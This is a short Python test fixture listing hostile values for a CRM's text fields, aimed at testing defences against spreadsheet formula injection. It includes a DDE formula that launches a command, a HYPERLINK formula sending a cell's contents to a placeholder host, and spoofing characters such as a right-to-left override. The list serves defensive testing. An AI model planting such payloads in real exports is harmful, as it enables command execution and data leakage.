"""Names that do harm where they are taken for something else than a text."""

# What a CRM may have in a name, a segment or a product: each is a text, whatever a program runs.
HOSTILE = [
    '=HYPERLINK("http://x/?"&A1;"ici")', "=1+1", "=cmd|' /C calc'!A0", "@SUM(1;2)", "+1-1", "-2+3",
    "-1", "+cmd", "=DDE(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "＝1", "＋1", "－1", "＠x",
    "'=1", "''", "'", '"', '""', '";=1;"', ";=1", ",=1", "a;b", "a,b", "a\nb", "a\r\nb", "a\rb",
    "ligne 1\n=1", "[red]x[/red]", "[/]", ":fox:", "\u202egnp.exe", "\u200b=1", "%s", "{0}", "é",
    "\x1b[31mrouge", "=" * 300, "x" * 500,
]  # fmt: skip
